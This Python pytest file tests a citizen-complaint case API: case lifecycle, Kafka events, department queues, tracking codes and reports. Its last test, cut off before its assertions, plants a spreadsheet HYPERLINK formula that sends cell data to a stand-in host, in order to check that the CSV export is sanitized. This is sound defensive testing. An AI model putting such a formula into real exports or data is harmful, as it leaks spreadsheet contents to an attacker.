"""The case lifecycle through HTTP, as operators, handlers and supervisors use it, with events on Kafka."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import UUID
from zoneinfo import ZoneInfo

import httpx
import pytest
from aiokafka import AIOKafkaProducer
from sqlalchemy import text, update

from case_api.cases.deadlines import CalendarPolicy
from case_api.cases.models import Case
from case_api.cases.numbers import tracking_code
from case_api.catalog.service import seed_from_taxonomy
from case_api.db import make_engine, make_sessionmaker
from case_api.intake.service import intake_batch
from case_api.main import create_app
from case_api.replies.models import Reply
from case_api.settings import Settings
from case_api.sla import SlaCalculator, SlaSettings
from shared.contracts.v1 import (
    CaseEvent,
    Channel,
    DeliveryReceipt,
    DeliveryReceiptRecord,
    DeliveryStatus,
    ReplyCommandRecord,
    utcnow,
)
from shared.settings import DatabaseSettings, KafkaSettings
from shared.taxonomy import load_taxonomy
from tests.asgi import serving
from tests.case_api.factories import POLICY, bearer, routed
from tests.kafka_helpers import read_topic

DEFAULT_SLA = Path("config/sla.yaml").read_text(encoding="utf-8")


@dataclass
class Api:
    client: httpx.AsyncClient
    kafka: KafkaSettings
    database_url: str

    async def as_user(self, username: str, role: str, department_id: str | None = None) -> dict[str, str]:
        body = {"username": username, "password": "correct-horse-9", "role": role, "department_id": department_id}
        response = await self.client.post("/api/v1/users", json=body)
        assert response.status_code == 201, response.text
        return {"Authorization": await bearer(self.client, username, "correct-horse-9")}

    async def seed(self, *items: object) -> list[str]:
        engine = make_engine(self.database_url)
        async with make_sessionmaker(engine)() as session, session.begin():
            await intake_batch(session, list(items), tz=ZoneInfo("Asia/Shanghai"), policy=POLICY)  # type: ignore[arg-type]
        await engine.dispose()
        page = (await self.client.get("/api/v1/cases", params={"limit": 200})).json()
        return [c["id"] for c in sorted(page["items"], key=lambda c: c["number"])]

    async def act(self, case_id: str, action: str, body: dict | None = None, headers: dict | None = None):
        return await self.client.post(f"/api/v1/cases/{case_id}/{action}", json=body or {}, headers=headers)

    async def deliver(self, case_id: str, status: DeliveryStatus = DeliveryStatus.DELIVERED, **receipt: object) -> None:
        """The channel service's receipt for the case's latest reply, through Kafka as in production; returns once
        case-api shows it."""
        replies = (await self.client.get(f"/api/v1/cases/{case_id}")).json()["replies"]
        latest = max(replies, key=lambda r: r["created_at"])
        record = DeliveryReceiptRecord.wrap(
            DeliveryReceipt(
                reply_id=UUID(latest["id"]),
                case_id=UUID(case_id),
                channel=Channel.WECHAT,
                account_id="city-wechat",
                status=status,
                finished_at=utcnow(),
                **({"attempts": 1} | receipt),  # type: ignore[arg-type]
            ),
            source="ingest-wechat",
        )
        producer = AIOKafkaProducer(bootstrap_servers=self.kafka.bootstrap_servers, acks="all")
        await producer.start()
        try:
            await producer.send_and_wait(self.kafka.topics.outbound_receipts, record.to_bytes(), key=b"k")
        finally:
            await producer.stop()
        for _ in range(100):
            detail = (await self.client.get(f"/api/v1/cases/{case_id}")).json()
            if next(r for r in detail["replies"] if r["id"] == latest["id"])["status"] == status.value:
                return
            await asyncio.sleep(0.1)
        raise AssertionError(f"case-api did not apply the receipt for reply {latest['id']}")

    def tracking_url(self, number: str) -> str:
        """The public tracking page of a case, with the code the citizen's acknowledgement carries."""
        secret = Settings(kafka=self.kafka).secret_key  # the fixture's app uses the same (default) secret
        return f"/api/v1/track/{number}?code={tracking_code(number, secret)}"

    async def events(self, expect: int) -> list[CaseEvent]:
        records = await read_topic(self.kafka, self.kafka.topics.case_events, expect=expect, timeout=10)
        return [CaseEvent.from_bytes(r.value) for r in records]


@pytest.fixture
async def api(database_url: str, kafka_settings: KafkaSettings) -> AsyncIterator[Api]:
    settings = Settings(kafka=kafka_settings, db=DatabaseSettings(DATABASE_URL=database_url), claim_lease_seconds=1)
    async with serving(create_app(settings)) as client:
        client.headers["Authorization"] = await bearer(client, "admin", "admin")
        yield Api(client, kafka_settings, database_url)


async def test_confirm_reply_deliver_close_with_events_in_order(api: Api) -> None:
    [case_id] = await api.seed(routed("m1", text="小区物业乱收费，请处理"))
    operator = await api.as_user("op1", "operator")

    confirmed = await api.act(case_id, "confirm", headers=operator)
    assert confirmed.status_code == 200, confirmed.text
    body = confirmed.json()
    assert (body["status"], body["category_id"], body["department_id"]) == ("dispatched", "housing-property", "housing")
    assert body["departments"] == [
        {"department_id": "housing", "role": "lead", "part": "", "status": "open", "completed_at": None, "note": None}
    ]

    replied = await api.act(case_id, "reply", {"text": "您好，已责成物业整改。"}, headers=operator)
    assert replied.json()["status"] == "replied"
    [reply] = replied.json()["replies"]
    assert reply["status"] == "queued"

    # The reply command reaches the channel services with the citizen's id and the tracking number.
    [command_raw] = await read_topic(api.kafka, api.kafka.topics.outbound_replies, expect=1)
    command = ReplyCommandRecord.from_bytes(command_raw.value).data
    assert (command.recipient_id, command.text, str(command.reply_id)) == (
        "oCitizen",
        "您好，已责成物业整改。",
        reply["id"],
    )
    assert command_raw.key == b"wechat:city-wechat:oCitizen"

    # The channel service's receipt updates the reply the operator sees.
    await api.deliver(case_id, attempts=2)
    detail = (await api.client.get(f"/api/v1/cases/{case_id}")).json()
    assert detail["replies"][0]["status"] == "delivered" and detail["replies"][0]["attempts"] == 2

    closed = await api.act(case_id, "close", headers=operator)
    assert closed.json()["status"] == "closed"

    events = await api.events(expect=7)
    assert [e.type.removeprefix("gov.inbox.case.") for e in events] == [
        "created",
        "accepted",
        "classified",
        "dispatched",
        "replied",
        "reply-delivered",
        "closed",
    ]
    assert {e.subject for e in events} == {case_id}
    assert events[2].data.change.details["via"] == "confirm"
    assert [e.data.change.actor for e in events[1:5]] == ["op1"] * 4

    audit = (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json()
    assert [a["action"] for a in audit] == ["created", "accept", "classify", "dispatch", "reply", "close"]
    assert audit[1]["before"]["status"] == "new" and audit[1]["after"]["status"] == "accepted"


async def test_a_failed_delivery_shows_the_platforms_code_however_long(api: Api) -> None:
    """Alipay's sub_codes can be long; the operator must still see the reply failed, and why."""
    [case_id] = await api.seed(routed("m1", text="路灯不亮"))
    operator = await api.as_user("op1", "operator")
    await api.act(case_id, "confirm", headers=operator)
    replied = await api.act(case_id, "reply", {"text": "您好，已安排维修。"}, headers=operator)
    [reply] = replied.json()["replies"]
    code = "isv.invalid-signature-type-or-not-config.app-public-key-missing"  # 63 characters
    receipt = DeliveryReceipt(
        reply_id=reply["id"],
        case_id=UUID(case_id),
        channel=Channel.ALIPAY,
        account_id="city-alipay",
        status=DeliveryStatus.FAILED,
        attempts=1,
        platform_code=code,
        reason="the platform refused the message",
        finished_at=utcnow(),
    )
    producer = AIOKafkaProducer(bootstrap_servers=api.kafka.bootstrap_servers, acks="all")
    await producer.start()
    try:
        record = DeliveryReceiptRecord.wrap(receipt, source="ingest-alipay")
        await producer.send_and_wait(api.kafka.topics.outbound_receipts, record.to_bytes(), key=b"k")
    finally:
        await producer.stop()
    for _ in range(100):
        shown = (await api.client.get(f"/api/v1/cases/{case_id}")).json()["replies"][0]
        if shown["status"] != "queued":
            break
        await asyncio.sleep(0.1)
    assert (shown["status"], shown["platform_code"]) == ("failed", code)


async def test_confirming_a_reopened_case_keeps_the_category_a_person_chose(api: Api) -> None:
    """Reopened, a case keeps the department that answered it and the router's first proposal: confirming must
    follow the category the operators chose, then or now, and the old department cannot claim it meanwhile."""
    chosen_before, chosen_now = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
    housing = await api.as_user("h-reopen", "handler", "housing")
    await api.act(chosen_before, "accept")
    await api.act(chosen_before, "classify", {"category_id": "market-consumer"})
    await api.act(chosen_before, "dispatch")
    await api.act(chosen_now, "confirm")  # housing, as the router proposed
    for case_id in (chosen_before, chosen_now):
        await api.act(case_id, "reply", {"text": "已处理"})
        await api.deliver(case_id)
        await api.act(case_id, "close")
        await api.act(case_id, "reopen", {"reason": "市民不满意"})
    refused = await api.act(chosen_now, "claim", headers=housing)
    assert refused.status_code == 409 and "accepted" in refused.json()["detail"]
    await api.act(chosen_now, "classify", {"category_id": "market-consumer"})
    for case_id in (chosen_before, chosen_now):
        body = (await api.act(case_id, "confirm")).json()
        assert (body["status"], body["category_id"], body["department_id"]) == (
            "dispatched",
            "market-consumer",
            "market",
        ), case_id


async def test_a_case_whose_answer_failed_closes_only_with_how_the_citizen_was_answered(api: Api) -> None:
    """Closing tells the citizen the case is done and asks for a rating: not when the answer never reached them."""
    failed, delivered = await api.seed(routed("m1", sender="s1"), routed("m2", sender="s2"))
    for case_id in (failed, delivered):
        await api.act(case_id, "confirm")
        await api.act(case_id, "reply", {"text": "您好，已安排维修。"})
    await api.deliver(failed, DeliveryStatus.FAILED, platform_code="45015", reason="outside the reply window")
    assert (await api.client.get(f"/api/v1/cases/{failed}")).json()["answer_failed_at"] is not None
    refused = await api.act(failed, "close")
    assert refused.status_code == 409 and "outside the reply window" in refused.json()["detail"]
    closed = await api.act(failed, "close", {"reason": "已电话答复市民"})
    assert closed.status_code == 200 and closed.json()["status"] == "closed"
    assert closed.json()["answer_failed_at"] is None  # answered by phone: nothing left to answer again
    assert [r["created_by"] for r in closed.json()["replies"]] == ["admin"]  # no rating request
    await api.deliver(delivered)
    asked = (await api.act(delivered, "close")).json()["replies"]
    assert [r["created_by"] for r in asked] == ["admin", "system"] and "评分" in asked[-1]["text"]


async def test_a_case_closes_once_its_answer_has_reached_the_citizen(api: Api) -> None:
    """While the answer is on its way it may yet fail: the rating request would then ask about an answer the
    citizen never got, and the case would be closed with nobody looking at it."""
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")
    await api.act(case_id, "reply", {"text": "您好，已安排维修。"})
    early = await api.act(case_id, "close")
    assert early.status_code == 409 and "still on its way to the citizen" in early.json()["detail"]
    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["status"] == "replied"
    phoned = await api.act(case_id, "close", {"reason": "已电话答复市民"})
    assert phoned.status_code == 200 and phoned.json()["status"] == "closed"
    assert [r["created_by"] for r in phoned.json()["replies"]] == ["admin"]  # no rating request


async def test_a_reply_too_long_for_the_platform_is_refused_when_written(api: Api) -> None:
    [case_id] = await api.seed(routed("m1", channel=Channel.WEIBO, account="city-weibo"))
    await api.act(case_id, "confirm")
    refused = await api.act(case_id, "reply", {"text": "很" * 301})
    assert refused.status_code == 422 and "at most 300 characters" in refused.json()["detail"]
    assert (await api.act(case_id, "reply", {"text": "很" * 300})).status_code == 200


async def test_an_illegal_move_is_409_with_the_state_and_what_is_allowed(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    response = await api.act(case_id, "close")
    assert response.status_code == 409
    body = response.json()
    assert body["current_status"] == "new"
    assert set(body["allowed_actions"]) == {"accept", "escalate", "discard", "confirm"} - {"confirm"}
    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["status"] == "new"
    assert len(await api.events(expect=2)) == 1  # only "created"


async def test_bad_bodies_are_422_and_change_nothing(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    assert (await api.act(case_id, "classify", {"category_id": "no-such"})).status_code == 409  # still new
    await api.act(case_id, "accept")
    unknown = await api.act(case_id, "classify", {"category_id": "no-such"})
    assert unknown.status_code == 422 and "no-such" in unknown.text
    extra = await api.act(case_id, "accept", {"surprise": 1})
    assert extra.status_code == 422
    assert (await api.act(case_id, "escalate", {})).status_code == 422  # reason required
    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["status"] == "accepted"


async def test_transfer_needs_a_reason_and_moves_the_case_between_departments(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")
    housing = await api.as_user("h-housing", "handler", "housing")
    market = await api.as_user("h-market", "handler", "market")
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=market)).status_code == 404

    assert (await api.act(case_id, "transfer", {"department_id": "market"}, headers=housing)).status_code == 422
    moved = await api.act(
        case_id, "transfer", {"department_id": "market", "reason": "属于市场监管职责"}, headers=housing
    )
    assert moved.status_code == 200, moved.text
    assert moved.json()["department_id"] == "market" and moved.json()["transfer_count"] == 1
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)).status_code == 404
    queue = (await api.client.get("/api/v1/queue", headers=market)).json()
    assert [c["id"] for c in queue["items"]] == [case_id]
    events = await api.events(expect=5)
    transferred = events[-1]
    assert transferred.type == "gov.inbox.case.transferred"
    assert transferred.data.change.reason == "属于市场监管职责"
    assert transferred.data.change.details == {
        "from_department_id": "housing",
        "to_department_id": "market",
        "departments_left": ["housing"],  # its live queues drop the case
    }


async def test_each_department_queues_what_it_leads_and_what_it_co_handles(api: Api) -> None:
    """Housing leads one case with environment helping, and helps market with another: each handler's queue (and
    its count) holds exactly its own, however the database reuses the statement between departments."""
    led, helped = await api.seed(routed("m1", sender="s1"), routed("m2", sender="s2"))
    for case_id, lead, helper in ((led, "housing", "environment"), (helped, "market", "housing")):
        await api.act(case_id, "accept")
        await api.act(case_id, "classify", {"category_id": "housing-property"})
        body = {"department_id": lead, "co_handlers": [{"department_id": helper, "part": "协助"}]}
        assert (await api.act(case_id, "dispatch", body)).status_code == 200
    handlers = {d: await api.as_user(f"h-{d}", "handler", d) for d in ("housing", "environment", "market", "transport")}
    expected = {"housing": {led, helped}, "environment": {led}, "market": {helped}, "transport": set()}
    for department in ("environment", "housing", "transport", "market", "housing", "environment"):
        page = (await api.client.get("/api/v1/queue", headers=handlers[department])).json()
        assert {c["id"] for c in page["items"]} == expected[department], department
        assert page["total"] == len(expected[department]), department


async def test_co_handling_blocks_closure_until_every_part_is_done(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "accept")
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    dispatched = await api.act(
        case_id, "dispatch", {"co_handlers": [{"department_id": "environment", "part": "检测噪音"}]}
    )
    assert [d["role"] for d in dispatched.json()["departments"]] == ["lead", "helper"]
    helper = await api.as_user("h-env", "handler", "environment")
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=helper)).status_code == 200
    # The helper cannot answer for the lead department.
    assert (await api.act(case_id, "reply", {"text": "x"}, headers=helper)).status_code == 409
    await api.act(case_id, "reply", {"text": "已处理"})
    await api.deliver(case_id)
    blocked = await api.act(case_id, "close")
    assert blocked.status_code == 409 and "environment" in blocked.json()["detail"]
    done = await api.act(case_id, "co-handlers/environment/complete", {"note": "噪音达标"}, headers=helper)
    assert done.status_code == 200, done.text
    assert (await api.act(case_id, "close")).json()["status"] == "closed"


async def test_reopen_and_interim_reply_hold_the_case_to_new_deadlines(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")
    past = await api.act(case_id, "interim-reply", {"text": "正在处理", "promised_at": "2020-01-01T00:00:00Z"})
    assert past.status_code == 422
    promise = (utcnow() + timedelta(days=3)).replace(microsecond=0)
    interim = await api.act(case_id, "interim-reply", {"text": "三日内答复", "promised_at": promise.isoformat()})
    body = interim.json()
    assert body["status"] == "dispatched" and body["promised_at"] == body["due_at"]
    assert body["first_responded_at"] is not None and body["replies"][0]["interim"] is True
    await api.act(case_id, "reply", {"text": "已解决"})
    await api.deliver(case_id)
    closed = await api.act(case_id, "close")
    assert closed.json()["due_at"] is None
    assert (await api.act(case_id, "reopen", {})).status_code == 422
    reopened = await api.act(case_id, "reopen", {"reason": "市民不满意"})
    assert reopened.json()["status"] == "accepted" and reopened.json()["reopen_count"] == 1
    assert reopened.json()["due_at"] is not None and reopened.json()["closed_at"] is None
    # The first response the citizen got stays on record (the statistics count it), a new resolution period runs.
    assert reopened.json()["first_responded_at"] == body["first_responded_at"]
    assert reopened.json()["due_at"] == reopened.json()["resolution_due_at"]


async def test_a_promise_never_hides_the_resolution_deadline_and_keeps_to_the_policy_limit(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    resolution_due = (await api.act(case_id, "confirm")).json()["resolution_due_at"]
    # config/sla.yaml: a promise may name at most 15 working days from receipt.
    too_late = (utcnow() + timedelta(days=60)).replace(microsecond=0)
    refused = await api.act(case_id, "interim-reply", {"text": "两月内答复", "promised_at": too_late.isoformat()})
    assert refused.status_code == 422 and "later than the policy allows" in refused.json()["detail"]
    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["replies"] == []  # nothing was sent
    # A promise after the resolution deadline is kept, but the case stays due (and breaches) at the resolution.
    later = (utcnow() + timedelta(days=14)).replace(microsecond=0)
    interim = (await api.act(case_id, "interim-reply", {"text": "两周内答复", "promised_at": later.isoformat()})).json()
    assert datetime.fromisoformat(interim["promised_at"]) == later
    assert interim["resolution_due_at"] == resolution_due and interim["due_at"] == resolution_due


async def test_a_reopened_case_goes_back_to_one_lead_department(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    housing = await api.as_user("hh", "handler", "housing")
    await api.act(case_id, "confirm")  # housing
    await api.act(case_id, "reply", {"text": "已处理"})
    await api.deliver(case_id)
    await api.act(case_id, "close")
    await api.act(case_id, "reopen", {"reason": "市民不满意"})
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    again = await api.act(case_id, "dispatch")  # the same department as before
    assert again.status_code == 200, again.text
    assert [(d["department_id"], d["role"]) for d in again.json()["departments"]] == [("housing", "lead")]
    # Reopened once more and sent elsewhere: the first department no longer sees the case or the citizen.
    await api.act(case_id, "reply", {"text": "已处理"})
    await api.deliver(case_id)
    await api.act(case_id, "close")
    await api.act(case_id, "reopen", {"reason": "仍未解决"})
    await api.act(case_id, "classify", {"category_id": "housing-property"})
    moved = await api.act(case_id, "dispatch", {"department_id": "commerce"})
    assert moved.status_code == 200, moved.text
    assert [(d["department_id"], d["role"]) for d in moved.json()["departments"]] == [("commerce", "lead")]
    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)).status_code == 404


async def test_claims_keep_two_operators_off_one_case_and_expire(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    alice = await api.as_user("alice", "operator")
    bob = await api.as_user("bob", "operator")
    assert (await api.act(case_id, "claim", headers=alice)).json()["claimed_by"] == "alice"
    refused = await api.act(case_id, "accept", headers=bob)
    assert refused.status_code == 409 and "alice" in refused.json()["detail"]
    await asyncio.sleep(1.2)  # the lease in this test is one second
    assert (await api.act(case_id, "accept", headers=bob)).status_code == 200


async def test_only_supervisors_free_a_colleagues_claim(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "confirm")  # housing
    alice = await api.as_user("alice", "operator")
    bob = await api.as_user("bob", "operator")
    handler = await api.as_user("hh", "handler", "housing")
    supervisor = await api.as_user("sup", "supervisor")
    await api.act(case_id, "claim", headers=alice)
    for colleague in (bob, handler):
        refused = await api.act(case_id, "release", headers=colleague)
        assert refused.status_code == 409 and "alice" in refused.json()["detail"]
    assert (await api.act(case_id, "release", headers=supervisor)).json()["claimed_by"] is None


async def test_a_claim_holds_against_every_colleague_and_ends_when_the_case_moves_on(api: Api) -> None:
    """A claim says who works the case: a handler cannot take it over, nor anyone pass the case on behind the
    holder's back; dispatching or transferring the case ends it, so the department starts at once."""
    held, handed_on = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
    alice = await api.as_user("alice2", "operator")
    first = await api.as_user("h-first", "handler", "housing")
    second = await api.as_user("h-second", "handler", "housing")
    await api.act(held, "confirm")  # housing
    assert (await api.act(held, "claim", headers=first)).json()["claimed_by"] == "h-first"
    for who, action, body in [
        (second, "claim", {}),
        (second, "reply", {"text": "已处理"}),
        (second, "transfer", {"department_id": "market", "reason": "属于市场监管"}),
        (alice, "transfer", {"department_id": "market", "reason": "属于市场监管"}),
    ]:
        refused = await api.act(held, action, body, headers=who)
        assert refused.status_code == 409 and "h-first" in refused.json()["detail"], action
    assert (await api.act(held, "escalate", {"reason": "媒体关注"}, headers=second)).status_code == 200
    await api.act(handed_on, "claim", headers=alice)
    dispatched = await api.act(handed_on, "confirm", headers=alice)
    assert dispatched.json()["claimed_by"] is None
    assert (await api.act(handed_on, "reply", {"text": "已处理"}, headers=first)).status_code == 200


async def test_each_role_sees_its_own_queue(api: Api) -> None:
    a, b, c = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"), routed("m3", sender="c"))
    await api.act(b, "confirm")  # housing
    await api.act(c, "accept")
    await api.act(c, "escalate", {"reason": "媒体关注"})
    operator = await api.as_user("op", "operator")
    housing = await api.as_user("hh", "handler", "housing")
    health = await api.as_user("hx", "handler", "health")
    supervisor = await api.as_user("sup", "supervisor")

    def ids(page: dict) -> set[str]:
        return {item["id"] for item in page["items"]}

    assert ids((await api.client.get("/api/v1/queue", headers=operator)).json()) == {a, c}
    assert ids((await api.client.get("/api/v1/queue", headers=housing)).json()) == {b}
    assert ids((await api.client.get("/api/v1/queue", headers=health)).json()) == set()
    assert ids((await api.client.get("/api/v1/queue", headers=supervisor, params={"escalated": "true"})).json()) == {c}
    # A handler cannot reach other departments' cases through any door.
    assert (await api.client.get("/api/v1/cases", headers=health)).json()["total"] == 0
    assert (await api.client.get(f"/api/v1/cases/{a}/audit", headers=health)).status_code == 404
    assert (await api.act(b, "reply", {"text": "x"}, headers=health)).status_code == 404
    assert (await api.act(a, "accept", headers=housing)).status_code == 404
    # …and cannot take staff actions on their own cases either.
    assert (await api.act(b, "discard", {"reason": "x"}, headers=housing)).status_code == 403
    assert (await api.client.post("/api/v1/users", headers=operator, json={})).status_code == 403
    assert (await api.client.get("/api/v1/cases")).status_code == 200
    assert (await api.client.get("/api/v1/cases", headers={"Authorization": "Bearer nonsense"})).status_code == 401


async def test_a_citizen_writing_back_after_the_answer_puts_the_case_in_the_departments_queue(api: Api) -> None:
    answered, written_back = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
    housing = await api.as_user("h-back", "handler", "housing")
    for case_id in (answered, written_back):
        await api.act(case_id, "confirm")
        await api.act(case_id, "reply", {"text": "已处理"}, headers=housing)
    assert (await api.client.get("/api/v1/queue", headers=housing)).json()["items"] == []
    await api.seed(routed("m3", sender="b", text="还是没有解决", sent_at=utcnow()))
    page = (await api.client.get("/api/v1/queue", headers=housing)).json()
    assert [(c["id"], c["status"], c["message_count"]) for c in page["items"]] == [(written_back, "replied", 2)]


async def test_the_queue_is_ordered_by_deadline_and_filters(api: Api) -> None:
    a, b = await api.seed(routed("m1", sender="a", text="路灯坏了"), routed("m2", sender="b", text="垃圾没人收"))
    promise = (utcnow() + timedelta(minutes=10)).isoformat()
    await api.act(b, "confirm")
    await api.act(b, "interim-reply", {"text": "十分钟内处理", "promised_at": promise})
    page = (await api.client.get("/api/v1/queue")).json()
    assert [c["id"] for c in page["items"]] == [b, a]  # b is due in 10 minutes, a in an hour
    assert [c["id"] for c in (await api.client.get("/api/v1/queue", params={"q": "路灯"})).json()["items"]] == [a]
    first = (await api.client.get("/api/v1/queue", params={"limit": 1})).json()
    second = (await api.client.get("/api/v1/queue", params={"limit": 1, "cursor": first["next_cursor"]})).json()
    assert [first["items"][0]["id"], second["items"][0]["id"]] == [b, a] and second["next_cursor"] is None
    assert (await api.client.get("/api/v1/queue", params={"overdue": "true"})).json()["total"] == 0


async def test_contacts_link_across_channels_and_history_shows_both(api: Api) -> None:
    wechat, weibo = await api.seed(
        routed("m1", sender="oWx"), routed("m2", sender="123", channel=Channel.WEIBO, account="city-weibo")
    )
    first = (await api.client.get(f"/api/v1/cases/{wechat}")).json()["contact"]["id"]
    second = (await api.client.get(f"/api/v1/cases/{weibo}")).json()["contact"]["id"]
    linked = await api.client.post(f"/api/v1/contacts/{first}/link", json={"other_contact_id": second})
    assert linked.status_code == 200
    assert {c["id"] for c in linked.json()["cases"]} == {wechat, weibo}
    assert [c["id"] for c in linked.json()["linked"]] == [second]
    assert (
        await api.client.post(f"/api/v1/contacts/{first}/link", json={"other_contact_id": first})
    ).status_code == 422


async def test_linking_two_groups_is_on_the_trail_of_every_case_of_both(api: Api) -> None:
    """The citizen's WeChat and Weibo identities were linked; now their Alipay one joins through the Weibo one:
    the WeChat case's history changes too, so its trail says so. Linking them again changes and records nothing."""
    wechat, weibo, alipay = await api.seed(
        routed("m1", sender="oWx"),
        routed("m2", sender="123", channel=Channel.WEIBO, account="city-weibo"),
        routed("m3", sender="2088", channel=Channel.ALIPAY, account="city-alipay"),
    )
    contact = {c: (await api.client.get(f"/api/v1/cases/{c}")).json()["contact"]["id"] for c in (wechat, weibo, alipay)}
    link = f"/api/v1/contacts/{contact[wechat]}/link"
    assert (await api.client.post(link, json={"other_contact_id": contact[weibo]})).status_code == 200
    joined = await api.client.post(
        f"/api/v1/contacts/{contact[alipay]}/link", json={"other_contact_id": contact[weibo]}
    )
    assert {c["id"] for c in joined.json()["cases"]} == {wechat, weibo, alipay}

    async def links(case_id: str) -> int:
        trail = (await api.client.get(f"/api/v1/cases/{case_id}/audit")).json()
        return sum(a["action"] == "link-contacts" for a in trail)

    assert [await links(c) for c in (wechat, weibo, alipay)] == [2, 2, 1]
    assert (await api.client.post(link, json={"other_contact_id": contact[alipay]})).status_code == 200
    assert [await links(c) for c in (wechat, weibo, alipay)] == [2, 2, 1]


async def test_canned_replies_fill_in_the_tracking_number(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    bad = await api.client.post("/api/v1/reply-templates", json={"name": "x", "body": "{secret}"})
    assert bad.status_code == 422
    created = await api.client.post(
        "/api/v1/reply-templates",
        json={
            "name": "受理",
            "category_id": "housing-property",
            "body": "您的诉求（编号{number}）已转{department}办理。",
        },
    )
    assert created.status_code == 201
    number = (await api.client.get(f"/api/v1/cases/{case_id}")).json()["number"]
    rendered = await api.client.get(f"/api/v1/cases/{case_id}/reply-templates/{created.json()['id']}")
    assert rendered.json()["text"] == f"您的诉求（编号{number}）已转市住房和城乡建设局办理。"


async def test_events_carry_the_case_snapshot(api: Api) -> None:
    [case_id] = await api.seed(routed("m1"))
    await api.act(case_id, "accept")
    created, accepted = await api.events(expect=2)
    assert json.loads(created.to_bytes())["specversion"] == "1.0"
    assert accepted.data.case["status"] == "accepted" and accepted.data.case["id"] == case_id
    assert accepted.data.change.from_status == "new"


async def test_public_tracking_and_statistics_show_no_personal_data(api: Api) -> None:
    [case_id] = await api.seed(routed("m1", sender="oSecretOpenId", text="我的电话13800000000，小区物业乱收费"))
    await api.act(case_id, "confirm")
    number = (await api.client.get(f"/api/v1/cases/{case_id}")).json()["number"]
    anonymous = httpx.AsyncClient(transport=api.client._transport, base_url="http://testserver")
    async with anonymous:
        tracked = await anonymous.get(api.tracking_url(number))
        assert tracked.status_code == 200
        body = tracked.json()
        assert (body["status_text"], body["department"]) == ("办理中", "市住房和城乡建设局")
        assert "13800000000" not in tracked.text and "oSecretOpenId" not in tracked.text
        # Numbers are sequential: without the citizen's code the page does not even say whether one exists.
        wrong = f"{(int(api.tracking_url(number)[-6:]) + 1) % 1_000_000:06d}"
        for url in ("/api/v1/track/20000101-00001", f"/api/v1/track/{number}", f"/api/v1/track/{number}?code={wrong}"):
            missing = await anonymous.get(url)
            assert missing.status_code == 404 and missing.json()["detail"].endswith("tracking number and code")
        public = (await anonymous.get("/api/v1/public/stats/departments")).json()
        assert public["departments"][0]["name"] == "市住房和城乡建设局"
        assert "department_id" not in public["departments"][0]
        assert public["as_of"] <= datetime.now(UTC).isoformat()  # when the published figures were computed
        assert (await anonymous.get("/api/v1/stats/departments")).status_code == 401
    housing = await api.as_user("stats-h", "handler", "housing")
    health = await api.as_user("stats-x", "handler", "health")
    assert [
        d["department_id"]
        for d in (await api.client.get("/api/v1/stats/departments", headers=housing)).json()["departments"]
    ] == ["housing"]
    assert (await api.client.get("/api/v1/stats/departments", headers=health)).json()["departments"] == []
    assert (
        await api.client.get("/api/v1/stats/departments", params={"from": "2026-02-01", "to": "2026-01-01"})
    ).status_code == 422


async def test_guessing_tracking_codes_is_throttled(api: Api) -> None:
    """Numbers are sequential and a code has six digits: one address cannot try a million codes."""
    [case_id] = await api.seed(routed("m1"))
    number = (await api.client.get(f"/api/v1/cases/{case_id}")).json()["number"]
    anonymous = httpx.AsyncClient(transport=api.client._transport, base_url="http://testserver")
    async with anonymous:
        right = api.tracking_url(number).rsplit("=", 1)[1]
        wrong = [code for code in (f"{n:06d}" for n in range(26)) if code != right][:25]
        guesses = [(await anonymous.get(f"/api/v1/track/{number}?code={code}")).status_code for code in wrong]
        assert guesses[:20] == [404] * 20 and set(guesses[20:]) == {429}
        refused = await anonymous.get(api.tracking_url(number))  # even the right code, until the wait is over
        assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0


async def test_a_handler_sees_its_department_ranked_among_all(api: Api) -> None:
    """Alone in its own view, every department came first."""
    housing_case, market_case = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
    await api.act(housing_case, "confirm")
    await api.act(market_case, "accept")
    await api.act(market_case, "classify", {"category_id": "market-consumer"})
    await api.act(market_case, "dispatch")
    await api.act(housing_case, "reply", {"text": "已处理"})  # housing answers, market does not
    ranked = (await api.client.get("/api/v1/stats/departments")).json()["departments"]
    last = ranked[-1]
    assert last["rank"] == len(ranked) > 1
    handler = await api.as_user("h-ranked", "handler", last["department_id"])
    [own] = (await api.client.get("/api/v1/stats/departments", headers=handler)).json()["departments"]
    assert (own["department_id"], own["rank"]) == (last["department_id"], last["rank"])


async def test_a_report_in_csv_never_hands_a_spreadsheet_a_formula(api: Api) -> None:
    await api.seed(routed("m1"))
    named = {"id": "housing", "name": '=HYPERLINK("http://x.example/?"&A1,"看这里")', "active": True}
    assert (await api.client.put("/api/v1/departments/housing", json=named)).status_code == 200
    await api.act((await api.client.get("/api/v1/cases")).json()["items"][0]["id"], "confirm")
    report = (await api.client.get("/api/v1/reports/monthly", params={"format": "csv"})).text
    cells = [cell for line in report.splitlines() for cell in line.split(",")]
